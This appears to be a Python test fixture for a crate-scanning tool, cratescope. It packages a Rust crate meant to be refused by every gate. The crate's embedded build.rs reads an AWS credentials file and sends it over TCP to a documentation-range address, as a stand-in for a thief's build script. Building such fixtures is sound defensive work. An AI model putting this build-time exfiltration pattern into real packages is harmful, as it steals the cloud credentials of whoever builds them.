"""A harmless crate that every gate denies: it proves that the way to a refusal works.

Its build script holds what a thief's would, addressed to nobody (a documentation address); it is
denied by its name before anything else, and judged like all others to prove that judges work.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import io
import json
import tarfile

from analyzer.registry.index import IndexFile, parse_index

NAME = "cratescope-denied-example"
VERSION = "1.0.0"
_MANIFEST = f"""[package]
name = "{NAME}"
version = "{VERSION}"
edition = "2021"
description = "Denied by every cratescope gate, to prove that a refusal arrives."
license = "Apache-2.0"
build = "build.rs"
"""
_BUILD = """// Nothing listens there: 198.51.100.0/24 is for documentation.
use std::io::Write;
fn main() {
    let key = std::fs::read("/home/nobody/.aws/credentials").unwrap_or_default();
    if let Ok(mut to) = std::net::TcpStream::connect("198.51.100.7:443") {
        let _ = to.write_all(&key);
    }
}
"""


@functools.cache
def archive() -> bytes:
    """The same bytes on every machine."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, text in (("Cargo.toml", _MANIFEST), ("build.rs", _BUILD), ("src/lib.rs", "")):
            member = tarfile.TarInfo(f"{NAME}-{VERSION}/{path}")
            member.size, member.mode = len(text.encode()), 0o644
            tar.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), 9, mtime=0)


@functools.cache
def checksum() -> str:
    """The sha256 of the archive."""
    return hashlib.sha256(archive()).hexdigest()


@functools.cache
def index_data() -> bytes:
    """Its index file: one plain line, old enough for every minimum age."""
    row: dict[str, object] = {"name": NAME, "vers": VERSION, "deps": [], "cksum": checksum()}
    row |= {"features": {}, "yanked": False, "pubtime": "2020-01-01T00:00:00Z"}
    return json.dumps(row, separators=(",", ":")).encode() + b"\n"


def index_file() -> IndexFile:
    """Its index file, read."""
    return parse_index(index_data(), NAME)
